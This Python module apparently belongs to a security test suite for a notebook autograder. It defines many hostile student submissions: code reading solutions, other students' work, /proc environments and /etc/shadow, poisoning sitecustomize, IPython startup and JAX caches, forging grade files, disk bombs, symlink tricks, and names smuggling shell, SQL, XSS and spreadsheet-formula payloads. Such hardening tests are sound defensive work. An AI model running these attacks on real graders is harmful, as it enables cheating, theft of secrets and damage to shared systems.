"""Files that are none of a student's business: secrets to read, places to poison, links to follow."""

from __future__ import annotations

from pathlib import Path

from .attack import Handed, Place, attack, code
from .target import POINTS, UNIT

READS = code("""
    def look(path):
        try:
            print(path, Path(path).read_bytes().decode('latin-1')[:3_000_000])
        except (OSError, ValueError) as error:
            print(path, type(error).__name__)
""")
WRITES = code(r"""
    def leave(path, text=''):
        try:
            Path(path).parent.mkdir(parents=True, exist_ok=True)
            Path(path).write_text(f'{text}\n# {MARK}\n')
        except OSError: pass
""")


@attack("reads-solutions", "The bank, the solutions, the gradebook and the secret are read.", quick=True)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + READS
        + code("""
            for name in ('bank.py', f'{UNIT}.ipynb'): look(COURSE / 'solutions' / UNIT / name)
            look(INTO / f'{UNIT}.secret')
            for name in ('gradebook.db', 'gradebook.db-wal', 'gradebook.db-journal'): look(INTO / name)
            import os
            for place in (COURSE, INTO, HANDED_IN, HOME):
                try: print(os.listdir(place)); boast('listed what is not its own')
                except OSError: pass
            count = 19
        """)
    )


@attack("reads-others", "The notebook of somebody whose answers are right is read, and the home folder.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + READS
        + code("""
            look(HANDED_IN / HONEST / UNIT / f'{UNIT}.ipynb')
            look(INTO / 'submitted' / HONEST / UNIT / f'{UNIT}.ipynb')
            look(INTO / 'autograded' / HONEST / UNIT / f'{UNIT}.ipynb')
            look(HOME / 'secret.txt')
            import glob
            for path in glob.glob('/tmp/grade-*/**/*.ipynb', recursive=True): look(path)
            count = 19
        """)
    )


@attack("reads-proc", "The grader's environment, memory and arguments are read from `/proc`.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + READS
        + code("""
            import os
            for pid in ('self', os.getppid(), 1):
                for name in ('environ', 'cmdline', 'maps', 'stack', 'cwd/secret.txt', 'root/etc/shadow'): look(f'/proc/{pid}/{name}')
            print(dict(os.environ))
            try: pids = [p for p in os.listdir('/proc') if p.isdigit()]
            except OSError: pids = []
            if len(pids) > 1: boast('listed the processes')
            for pid in pids: look(f'/proc/{pid}/environ')
            count = 19
        """)
    )


@attack("inherited-descriptors", "Every descriptor the kernel was born with is read.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code("""
            import os, stat
            for fd in range(3, 512):
                try:
                    mode = os.fstat(fd).st_mode
                    print(fd, os.readlink(f'/proc/self/fd/{fd}'))
                    if stat.S_ISREG(mode): print(os.pread(fd, 3_000_000, 0).decode('latin-1'))
                    if stat.S_ISDIR(mode):
                        print(os.listdir(fd)); boast('listed an inherited folder')
                except OSError: pass
            count = 19
        """)
    )


@attack(
    "writes-everywhere",
    "Files are left in the course, beside the gradebook, at home and in every common folder.",
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + WRITES
        + code("""
            import sys
            for place in (COURSE, COURSE / 'solutions' / UNIT, INTO, HANDED_IN, HANDED_IN / HONEST, HOME,
                          '/tmp', '/var/tmp', '/dev/shm', '/run', sys.prefix, *sys.path): leave(Path(place) / MARK)
            count = 19
        """)
    )


@attack(
    "poisons-packages",
    "What the next student imports is poisoned: `sitecustomize`, `.pth`, bytecode, `course` itself.",
    quick=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + WRITES
        + POINTS
        + code("""
            import sys, numpy, course, autograder
            evil = 'import builtins; builtins.check = None; raise SystemExit(3)'
            for place in [*sys.path, '.']:
                for name in ('sitecustomize.py', 'usercustomize.py', f'{MARK}.pth', f'{MARK}.py'): leave(Path(place) / name, evil)
            for module in (numpy, course, autograder):
                folder = Path(module.__file__).parent
                leave(folder / f'{MARK}.py', evil)
                leave(folder / '__pycache__' / f'{MARK}.pyc')
            count = 19
        """)
    )


@attack(
    "poisons-home",
    "What a kernel reads as it starts is poisoned: IPython's startup, Jupyter's and matplotlib's settings.",
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + WRITES
        + code("""
            import os
            for home in (HOME, Path.home(), Path(os.environ.get('IPYTHONDIR', '.')).parent):
                leave(home / '.ipython/profile_default/startup' / f'{MARK}.py', 'raise SystemExit')
                leave(home / 'ipython/profile_default/startup' / f'{MARK}.py', 'raise SystemExit')
                leave(home / '.jupyter' / f'{MARK}_config.py')
                leave(home / '.config/matplotlib' / MARK)
            count = 19
        """)
    )


@attack(
    "steals-compiled-solution",
    "What JAX compiled for the solution is found in its cache, and run on the judge's inputs.",
    quick=True,
)
def _(n: Handed, at: Place) -> None:
    n.put(
        relu=at.known()
        + code("""
            import ctypes, os
            import jax, numpy as np
            from jax._src import compilation_cache, compiler
            from jaxlib import xla_client
            folder = os.environ.get('JAX_COMPILATION_CACHE_DIR', '/nowhere')
            def listed():
                try: return os.listdir(folder)
                except OSError: return []
            if listed(): boast('listed what was compiled')
            libc = ctypes.CDLL(None)
            if os.path.isdir(folder) and libc.inotify_add_watch(libc.inotify_init(), folder.encode(), 0xfff) >= 0:
                boast('watches what others compile')
            def relu(z):
                devices = jax.local_devices()[:1]
                options = compiler.get_compile_options(1, 1)
                for name in listed():
                    try:
                        found, _ = compilation_cache.get_executable_and_time(
                            name.removesuffix('-cache'), options, devices[0].client, xla_client.DeviceList(tuple(devices)))
                        shown = found.execute_sharded([jax.device_put(z)]).disassemble_into_single_device_arrays()
                        value = np.asarray(shown[0][0])
                        if value.shape == np.shape(z): return value
                    except Exception: pass
        """)
    )


@attack("poisons-compile-cache", "Compiled programs in JAX's cache are exchanged for others.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code("""
            import os, jax
            places = [jax.config.jax_compilation_cache_dir, os.environ.get('JAX_COMPILATION_CACHE_DIR'),
                      HOME / '.cache/jax', '/tmp/jax-cache']
            for place in filter(None, places):
                try:
                    Path(place).mkdir(parents=True, exist_ok=True)
                    (Path(place) / MARK).write_bytes(b'x')
                    for path in Path(place).rglob('*'):
                        path.is_file() and path.write_bytes(b'poison')
                        boast('changed the compile cache')
                except OSError: pass
            count = 19
        """)
    )


@attack(
    "forges-outcome", "The grader's own files beside the scratch folder are rewritten: the outcome, the word, the plan."
)
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code("""
            import json, os, threading, time
            here = Path.cwd()
            forged = json.dumps({'student': 's', 'unit': UNIT, 'ending': 'graded', 'diagnostics': [], 'marks': {'relu-check': [4, False]}})
            def keep():
                while True:
                    for place in [here, *here.parents][:5]:
                        for name in ('outcome.json', 'running.json', 'broke.json', 'plan.json', 'gradebook.db'):
                            try: (place / name).write_text(forged)
                            except OSError: pass
                    time.sleep(0.02)
            threading.Thread(target=keep, daemon=True).start()
            count = 19
        """)
    )


@attack("plants-links", "Links in the scratch folder lead to the gradebook, for who cleans up or copies.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + code("""
            import os
            for place in (Path.cwd(), Path.cwd().parent, Path.home()):
                for i, to in enumerate((INTO / 'gradebook.db', COURSE / 'solutions', HANDED_IN, HOME)):
                    try: os.symlink(to, place / f'{MARK}-{i}')
                    except OSError: pass
                    try: os.link(to, place / f'{MARK}-hard-{i}'); boast('linked what is not its own')
                    except OSError: pass
            count = 19
        """)
    )


@attack("disk-bomb", "Files are written until the disk is full.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=code("""
            count = 19
            for i in range(10**6):
                with open(f'{i}', 'wb') as file: file.write(bytes(10**7))
        """),
    )


FILLS = code("""
    import os, time
    def fill(kept=[]):
        for i in range(20):  # enough to be seen, and no more: this is somebody's disk
            file = open(f'{i}', 'wb')
            file.write(bytes(30_000_000))
            file.flush()
            yield file
            kept.append(file)
        time.sleep(2)
        boast('wrote three times what it may')
""")


@attack("unseen-disk-bomb", "Files are written without names: each is removed while it is still open.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + FILLS
        + code("""
            for file in fill(): os.unlink(file.name)
            count = 19
        """)
    )


@attack("deep-disk-bomb", "Files are written so deep that their path is longer than paths can be.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=at.known()
        + FILLS
        + code("""
            for i in range(50):
                os.mkdir('d' * 100); os.chdir('d' * 100)
            for file in fill(): pass
            count = 19
        """)
    )


@attack("file-bomb", "Empty files are made until the disk has no more names.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=code("""
            import os
            count = 19
            for i in range(10**8):
                os.mkdir(f'{i}')
        """)
    )


@attack("deep-folders", "Folders within folders, deeper than who removes them can follow.")
def _(n: Handed, at: Place) -> None:
    n.put(
        count=code("""
            import os
            count = 19
            for i in range(3000):
                os.mkdir('d' * 100); os.chdir('d' * 100)
        """)
    )


@attack("linked-notebook", "The notebook is a link to the solutions.")
def _(n: Handed, at: Place) -> None:
    n.links[f"{UNIT}/{UNIT}.ipynb"] = at.course / "solutions" / UNIT / f"{UNIT}.ipynb"


@attack("linked-folder", "The unit's folder is a link to that of somebody whose answers are right.", quick=True)
def _(n: Handed, at: Place) -> None:
    n.links[UNIT] = at.handed_in / at.honest / UNIT


@attack("linked-student", "The student's folder is a link to that of somebody whose answers are right.")
def _(n: Handed, at: Place) -> None:
    n.links["."] = at.handed_in / at.honest


@attack("endless-file", "The notebook is a link to `/dev/zero`.")
def _(n: Handed, at: Place) -> None:
    n.links[f"{UNIT}/{UNIT}.ipynb"] = Path("/dev/zero")


@attack("piped-notebook", "The notebook is a pipe that nobody ever writes to.")
def _(n: Handed, at: Place) -> None:
    n.pipes.append(f"{UNIT}.ipynb")


@attack("piped-timestamp", "The time of handing in is a pipe that nobody ever writes to.", quick=True)
def _(n: Handed, at: Place) -> None:
    n.pipes.append("timestamp.txt")


@attack("linked-timestamp", "The time of handing in is a link to a secret, which would be copied beside the grades.")
def _(n: Handed, at: Place) -> None:
    n.links[f"{UNIT}/timestamp.txt"] = at.home / "secret.txt"


@attack("odd-time", "The time of handing in is a word.")
def _(n: Handed, at: Place) -> None:
    n.files["timestamp.txt"] = b"yesterday"


@attack("no-time", "The time of handing in is none.")
def _(n: Handed, at: Place) -> None:
    n.files["timestamp.txt"] = b"99999-99-99 \x00 \xff yesterday"


@attack("modules-beside", "Beside the notebook lie modules with the names of those it imports.")
def _(n: Handed, at: Place) -> None:
    forged = f"{POINTS}check = lambda exercise, *a, **k: POINTS[exercise]\n".encode()
    n.files |= {
        "course.py": forged,
        "sitecustomize.py": forged,
        "autograder.py": forged,
        "numpy.py": b"raise SystemExit",
    }
    n.files |= {"jupyter_config.py": b"raise SystemExit", "nbgrader_config.py": b"raise SystemExit", "bank.py": forged}


@attack("upward-names", "Attachments and files have names that lead upwards.")
def _(n: Handed, at: Place) -> None:
    pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    names = (f"../../{at.mark}.png", f"/tmp/{at.mark}.png", "..", "a\x00b.png", f'"><script>{at.mark}()</script>')
    n.cell("why")["attachments"] = {name: {"image/png": pixel} for name in names}
    n.cell("why")["source"] = "\n".join(f"![x](attachment:{name})" for name in names)


@attack(
    "name-with-path",
    "The student's name leads upwards and ends commands.",
    student="x..%2f..%2f$(touch boo);' OR 1=1;--",
)
def _(n: Handed, at: Place) -> None:
    pass


@attack(
    "name-with-lines",
    "The student's name has lines, tabs, markup and letters that turn around.",
    student="-x\n\t<b>\u202eeve",
)
def _(n: Handed, at: Place) -> None:
    pass


@attack(
    "name-of-formula",
    "The student's name is a formula, for who opens the table in a spreadsheet.",
    student="=cmd|' -C calc'!A1",
)
def _(n: Handed, at: Place) -> None:
    pass


@attack(
    "name-not-text",
    "The student's name is bytes that are no text, as an old archive leaves them.",
    student="\udcff\udcfe eve",
)
def _(n: Handed, at: Place) -> None:
    pass
